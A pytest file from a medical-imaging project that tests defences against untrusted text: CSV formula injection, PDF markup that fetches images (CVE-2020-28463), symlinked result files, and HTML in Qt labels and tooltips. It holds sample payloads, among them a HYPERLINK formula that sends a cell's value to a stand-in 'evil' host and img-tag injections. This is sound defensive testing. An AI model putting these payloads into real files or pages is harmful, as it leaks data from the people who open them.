"""Texts of strangers that try to become something else: markup in labels and PDF, a formula in a table, a path."""

from __future__ import annotations

import csv
import os
import re
import socket
import threading
import xml.etree.ElementTree as ET

import numpy as np
import pytest
from fault_support import head, neuraxis
from project_tree import product_sources, project_files, relative

from NeuraxisLib.errors import InputError
from NeuraxisLib.labels import LabelTable
from NeuraxisLib.panel import plain_tip
from NeuraxisLib.result import Landmark, Measurement, Result, Table
from NeuraxisLib.result_folder import read_result, write_result
from NeuraxisLib.task import get_task
from NeuraxisLib.volume import Volume

FORMULA = "=HYPERLINK(\"http://evil/\"&A1)"


@pytest.fixture
def trap():
    """(address, list of what was asked there): a server that only notes who comes."""
    heard: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                visitor, _ = server.accept()
            except OSError:
                return
            with visitor:
                visitor.settimeout(2)
                heard.append(visitor.recv(200))

    threading.Thread(target=listen, daemon=True).start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}/x.png", heard
    server.close()


def result_that_says(words: str) -> Result:
    """A hemorrhage result in which every text is ``words``."""
    volume = head()
    labels = Volume((volume.array > 60).astype(np.uint8), volume.ijk_to_ras)
    return Result(
        "hemorrhage", volume, labels=labels,
        measurements=[Measurement(words, 1.0, words, note=words), Measurement("Total volume", 2.0, "mL", note=words)],
        tables={"lesions": Table(words, ((words, ""), ("x", words)), ((words, 1.0),))},
        key_slices=[3], warnings=[words], provenance={"model": words, words: words},
    )  # fmt: skip


def test_a_pdf_fetches_nothing(trap):
    """reportlab takes texts for markup and fetches the pictures that they name (CVE-2020-28463)."""
    from NeuraxisLib.report_pdf import render_pdf

    address, heard = trap
    table = LabelTable.read(get_task("hemorrhage").resources / "labels.csv")
    pdf = render_pdf(result_that_says(f'<img src="{address}" width="9" height="9"/><b>x'), table)
    assert pdf.startswith(b"%PDF") and heard == []


def test_reportlab_would_open_what_a_text_names(tmp_path):
    """Guards the test above: as markup, the same text opens the file."""
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.platypus import Paragraph

    with pytest.raises(OSError, match="Cannot open resource"):
        Paragraph(f'<img src="{tmp_path / "x.png"}" width="9" height="9"/>', ParagraphStyle("x")).wrap(100, 100)


def test_a_formula_stays_a_text_in_every_table(tmp_path):
    """Tables of a result, and what is exported from one."""
    write_result(result_that_says(FORMULA), tmp_path / "result", report=False)
    source = Volume(np.zeros((5, 40, 40), np.int16), np.diag([1.0, 1.0, 12.0, 1.0]))
    points = [Landmark(FORMULA, (8.0, 20.0, 20.0), 0.9), Landmark("L5/S1", (8.0, 20.0, 5.0), 0.8)]
    write_result(Result("discs", source, points=points, provenance={"model": "m"}), tmp_path / "discs", report=False)
    neuraxis("labels", tmp_path / "discs", tmp_path / "labels.csv")
    cells = [
        cell
        for path in tmp_path.rglob("*.csv")
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))] == []


def test_every_table_goes_through_the_guard_against_formulas():
    """A file that writes CSV of texts from outside uses csv_cell, or is named here with the reason."""
    exempt = {
        "Training/nnunet_data.py",  # numbers and keys of a store that the same person made
        "Training/simulate.py", "Training/strokes.py",  # words of ours
        "SpineDiscLabel/SpineDiscLabelLib/exports.py",  # names of discs, any other is refused
        "Neuraxis/NeuraxisLib/review_export.py",  # paths and names of ours
    }  # fmt: skip
    for path in product_sources():
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text) and relative(path) not in exempt:
            assert "csv_cell" in text, relative(path)


# -- links ------------------------------------------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="makes symbolic links")
def test_a_result_folder_reads_no_file_through_a_link(tmp_path):
    """A stranger's result whose label map is a link to a file of ours."""
    volume = head()
    labels = Volume((volume.array > 60).astype(np.uint8), volume.ijk_to_ras)
    result = Result("hemorrhage", volume, labels=labels, provenance={"model": "m"})
    for name in ("mine", "strange"):
        write_result(result, tmp_path / name, report=False)
    link = tmp_path / "strange" / "labels.seg.nrrd"
    link.unlink()
    link.symlink_to(tmp_path / "mine" / "labels.seg.nrrd")
    with pytest.raises(InputError, match="damaged"):
        read_result(tmp_path / "strange")


# -- widgets ----------------------------------------------------------------------------------------------------------


def labels_of_panels() -> dict[str, str | None]:
    """Label of a .ui file -> its textFormat, for those whose text the code sets."""
    sources = "\n".join(path.read_text(encoding="utf-8") for path in product_sources())
    found: dict[str, str | None] = {}
    for path in project_files():
        if path.suffix == ".ui":
            for widget in ET.parse(path).iter("widget"):
                name = widget.get("name", "")
                if widget.get("class") == "QLabel" and re.search(rf"\b{name}\.(text\s*=|setText\()", sources):
                    kind = widget.find("property[@name='textFormat']/enum")
                    found[f"{path.name}: {name}"] = None if kind is None else kind.text.rpartition("::")[2]
    return found


def test_labels_say_whether_they_hold_markup():
    """Left to itself, a label takes a text with a tag for HTML: a file name could load pictures from anywhere."""
    found = labels_of_panels()
    assert len(found) > 15
    assert [name for name, kind in found.items() if kind not in ("PlainText", "RichText")] == []


def test_tool_tips_show_texts_of_others_as_they_are():
    assert plain_tip("CT, 5 mm & soft") == "CT, 5 mm & soft"
    assert plain_tip("<img src='//evil/x'>") == "<p>&lt;img src=&#x27;//evil/x&#x27;&gt;</p>"
